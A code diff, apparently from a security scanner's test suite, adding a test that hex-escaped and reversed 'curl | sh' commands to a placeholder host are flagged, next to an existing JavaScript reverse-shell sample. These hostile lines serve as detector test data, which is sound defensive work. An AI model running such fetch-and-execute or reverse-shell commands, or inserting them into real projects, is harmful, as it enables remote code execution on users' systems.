@@ -497,3 +497,15 @@ def test_js_shell_with_a_command_near_a_local_socket(tmp_path: Path) -> None:
         "const c = net.connect(4444, '192.0.2.4');\nconst sh = spawn('sh', []);\nc.pipe(sh.stdin);\n"
     )
     assert _blocked(tmp_path / "b", {"scripts/d.js": bad}) & {"SY-RS-003", "SY-FLOW-006"}
+
+
+def test_escaped_and_reversed_commands_are_folded(tmp_path: Path) -> None:
+    sh = "#!/bin/sh\nc=$(printf '\\x63\\x75\\x72\\x6c')\n$c -s https://x.example.invalid/p | sh\n"
+    assert "SY-OBF-009" in _blocked(tmp_path / "a", {"scripts/a.sh": sh})
+    js = "const c = '\\x63\\x75\\x72\\x6c -s https://x.example.invalid/p | sh';\nrequire('child_process').execSync(c);\n"
+    assert "SY-OBF-009" in _blocked(tmp_path / "b", {"scripts/a.js": js})
+    rev = "const c = 'hs | p/dilavni.elpmaxe.x//:sptth s- lruc'.split('').reverse().join('');\nrequire('child_process').execSync(c);\n"
+    assert "SY-OBF-009" in _blocked(tmp_path / "c", {"scripts/b.js": rev})
+    good_sh = '#!/bin/sh\nd=$(printf \'%s\' "$1")\necho "$d"\n'
+    good_js = "const s = 'olleh'.split('').reverse().join('');\nconsole.log(s + '\\x21');\n"
+    assert not _blocked(tmp_path / "d", {"scripts/a.sh": good_sh, "scripts/a.js": good_js})
